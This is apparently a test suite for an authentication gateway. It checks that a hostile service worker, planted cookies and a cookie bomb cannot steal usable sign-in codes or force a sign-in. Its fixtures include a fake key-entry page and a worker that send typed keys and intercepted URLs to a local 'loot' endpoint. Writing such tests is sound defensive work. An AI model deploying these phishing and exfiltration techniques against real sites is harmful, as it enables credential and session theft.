/**
 * A service worker of the tested application: it answers every navigation of the gated host that it likes, the gate's own
 * paths included, with pages of its own. It sees the codes that lead into that host, and nothing that is worth more.
 */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import type { Page } from 'playwright-core'
import { eventually } from '../support/installation.ts'
import { beginSignIn, enterTarget, signsIn } from './support/attacker.ts'
import { withoutChromium } from './support/chromium.ts'
import { acceptInvitation, enter, signInByKey } from './support/gate.ts'
import { PAGE, plantCookies } from './support/hostile-origin.ts'
import { openSecondGateway, type SecondGateway } from './support/second-gateway.ts'
import { openVictim, type Victim, whoIsAt } from './support/victim.ts'

/** A page that asks for a key as the gate does, and brings home what is typed. */
const fakePage = (home: string): string => `${PAGE}
<label>Key <input id="key"></label><button>Sign in</button>
<script>addEventListener('input', ({ target }) => fetch('${home}', { method: 'POST', mode: 'no-cors', body: target.value }))</script>`

/** Brings home every address of the gate's that it sees, and, while it is told to, answers itself. */
const workerOf = (home: string): string => `
let answersItself = true
addEventListener('install', () => skipWaiting())
addEventListener('activate', (event) => event.waitUntil(clients.claim()))
addEventListener('message', ({ data, ports }) => {
  answersItself = data
  ports[0].postMessage('done')
})
addEventListener('fetch', (event) => {
  const { request } = event
  if (!request.url.includes('/.sallyport/')) return
  event.waitUntil(fetch('${home}', { method: 'POST', mode: 'no-cors', body: request.url }))
  const fake = new Response(${JSON.stringify(fakePage(home)).replaceAll('</', '<\\/')}, { headers: { 'content-type': 'text/html' } })
  if (answersItself && !request.url.includes('/sign-in')) event.respondWith(fake)
})`

test('a service worker of the tested application', { skip: withoutChromium }, async (t) => {
  let it: Victim
  let second: SecondGateway
  before(async () => {
    it = await openVictim()
    second = await openSecondGateway(it.gate.installation)
    const { origin } = it.gate
    origin.serve('/worker.js', { type: 'text/javascript', body: workerOf(`${origin.url}/loot`) })
    await it.hostile.evaluate(() => navigator.serviceWorker.register('/worker.js').then(() => undefined))
  })
  after(async () => {
    await second.close()
    await it.close()
  })

  /** Tells the worker whether to answer for the gate from now on. The page must be of its host. */
  const tell = async (answersItself: boolean): Promise<void> => {
    await it.hostile.evaluate(async (told) => {
      const { active } = await navigator.serviceWorker.ready
      const { port1, port2 } = new MessageChannel()
      const done = new Promise((resolve) => {
        port1.onmessage = resolve
      })
      active?.postMessage(told, [port2])
      await done
    }, answersItself)
    it.gate.origin.loot.length = 0
  }
  /** The browser keeps its home at the gate and has no session at the site any more. */
  const forgetSite = () => it.browser.context.clearCookies({ domain: 'shop.gate.localhost' })

  /**
   * Goes to the site until the worker's page has taken the place of the gate's. The way there is over the gate's page, whose
   * script leaves it: an address that is opened meanwhile may never load.
   */
  const enterFaked = async (page: Page): Promise<void> => {
    await page.goto(`${it.gate.shop.url}/`)
    await page.waitForURL((url) => url.host === it.gate.shop.host)
    await page.getByLabel('Key').waitFor()
  }

  /** The path and query with the code that the worker has brought home. */
  const takenCode = (): Promise<string> =>
    eventually(() => {
      const taken = it.gate.origin.loot.find((url) => url.includes('/.sallyport/enter?code='))
      return taken === undefined ? undefined : taken.slice(new URL(taken).origin.length)
    })
  /** Tries a code at each gateway and host, without a nonce and with one that the attacker was given at any host. */
  const assertWorthless = async (target: string): Promise<void> => {
    const { gate } = it
    const sites = [gate.shop, gate.wiki, gate.bank]
    const begun = await Promise.all(sites.map((site) => beginSignIn(gate, site)))
    for (const gatewayUrl of [gate.installation.gatewayUrl, second.url])
      for (const { host } of sites)
        for (const cookie of ['', ...begun.map((one) => one.cookie)])
          assert.equal(
            await signsIn(gatewayUrl, host, target, cookie),
            false,
            `${gatewayUrl} ${host} ${cookie}`,
          )
  }

  await t.test('sees neither the invitation nor the key of whoever signs in', async () => {
    await tell(true)
    const { gate, browser } = it
    const page = await browser.open()
    await browser.context.clearCookies()
    const trent = await gate.invite('Trent')
    await acceptInvitation(page, trent.invitation)
    await enterFaked(page)
    await browser.context.clearCookies()
    await signInByKey(page, gate, it.mira.key)
    await enterFaked(page)
    await eventually(() => gate.origin.loot.length > 0)
    const token = new URL(trent.invitation).href.split('token=')[1] ?? ''
    assert.ok(token.length > 20)
    for (const secret of [token, it.mira.key])
      assert.equal(gate.origin.loot.join().includes(secret), false, gate.origin.loot.join('\n'))
    await page.close()
  })

  await t.test('steals a code, and it lets nobody in elsewhere', async () => {
    await tell(true)
    await forgetSite()
    const { gate } = it
    await enterFaked(it.hostile)
    const target = await takenCode()
    await assertWorthless(target)
    // Where it came from, it is still good for the browser that asked, and for one time.
    await tell(false)
    const answer = await it.hostile.goto(gate.shop.url + target)
    assert.equal(answer?.status(), 200)
    assert.equal(await whoIsAt(gate, it.hostile), it.mira.id)
    await forgetSite()
    await it.hostile.goto(gate.shop.url + target)
    assert.equal((await it.browser.context.cookies(gate.shop.url)).length, 0, 'a used code signed in again')
  })

  await t.test('lets an honest sign-in through, and the code it saw is worth nothing after', async () => {
    await tell(false)
    await forgetSite()
    const { gate } = it
    await enter(it.hostile, `${gate.shop.url}/through`)
    await assertWorthless(await takenCode())
  })

  await t.test('cannot have a sign-in that somebody else began finished here', async () => {
    const { gate, browser } = it
    const { cookie, location } = await beginSignIn(gate, gate.shop)
    // By script, by an answer of the origin, by an answer of the worker: whatever could plant the attacker's nonce.
    gate.origin.serve('/planting', {
      type: 'text/html',
      body: PAGE,
      headers: {
        'set-cookie': [
          `${cookie}; Path=/; Secure; HttpOnly; SameSite=None`,
          `${cookie}; Path=/.sallyport; Secure`,
        ],
      },
    })
    const codes: string[] = []
    browser.context.on('request', (request) => {
      if (request.url().endsWith('/api/codes')) codes.push(request.url())
    })
    for (const withOwnNonce of [false, true]) {
      await enter(it.hostile, `${gate.shop.url}/`)
      if (withOwnNonce) {
        // A sign-in of her own is under way.
        await it.hostile.route('**/api/codes', (route) => route.abort())
        await it.hostile.goto(`${gate.shop.url}/.sallyport/sign-in?to=/`)
        await it.hostile.getByRole('heading', { name: 'The gate did not let you in' }).waitFor()
        await it.hostile.unrouteAll()
      }
      await enter(it.hostile, `${gate.shop.url}/planting`)
      await plantCookies(
        it.hostile,
        ['', '; Domain=gate.localhost', '; Domain=shop.gate.localhost'].flatMap((domain) =>
          ['; Path=/', '; Path=/; Secure', '; Path=/.sallyport/nonce; Secure; SameSite=None'].map(
            (rest) => cookie + rest + domain,
          ),
        ),
      )
      // With a session there, she would be led to it, and nobody let in anew.
      await browser.context.clearCookies({ domain: gate.shop.gatedName, name: '__Host-Http-sallyport' })
      codes.length = 0
      await it.hostile.goto(location)
      await it.hostile.getByRole('heading', { name: 'This sign-in was not begun in this browser' }).waitFor()
      assert.deepEqual(codes, [], 'a code was asked for')
      const again = it.hostile.getByRole('link', { name: `Enter ${gate.shop.gatedName}` })
      assert.ok((await again.getAttribute('href'))?.startsWith(`${gate.shop.url}/.sallyport/sign-in?to=`))
    }
  })

  await t.test('cannot have the check of whose sign-in it is replaced by a question', async () => {
    const { gate, browser, hostile } = it
    await enter(hostile, `${gate.shop.url}/`)
    const { location } = await beginSignIn(gate, gate.shop)
    const path = '/.sallyport/nonce'
    // More than the head of a request may hold, for the one path that the gate's page asks.
    const bomb = Array.from({ length: 20 }, (_, index) => `bomb${index}=${'x'.repeat(4_000)}`)
    await plantCookies(
      hostile,
      bomb.map((cookie) => `${cookie}; Path=${path}`),
    )
    const codes: string[] = []
    browser.context.on('request', (request) => {
      if (request.url().endsWith('/api/codes')) codes.push(request.url())
    })
    await hostile.goto(location)
    await hostile.getByRole('heading', { name: `${gate.shop.gatedName} does not answer the gate` }).waitFor()
    assert.equal(await hostile.getByRole('button', { name: 'Enter' }).count(), 0)
    assert.deepEqual(codes, [], 'a code was asked for')
    await browser.context.clearCookies({ name: /^bomb/ })
  })

  await t.test('cannot sign the browser in as the attacker by the attacker’s own code', async () => {
    const { gate } = it
    await enter(it.hostile, `${gate.shop.url}/`)
    const begun = await beginSignIn(gate, gate.shop)
    const target = await enterTarget(gate, gate.shop, begun, it.mallory.key)
    await it.hostile.goto(gate.shop.url + target)
    await it.hostile.goto(`${gate.shop.url}/`)
    assert.equal(await whoIsAt(gate, it.hostile), it.mira.id)
    assert.equal(
      await signsIn(gate.installation.gatewayUrl, gate.shop.host, target, begun.cookie),
      true,
      'the code was good for Mallory',
    )
  })
})
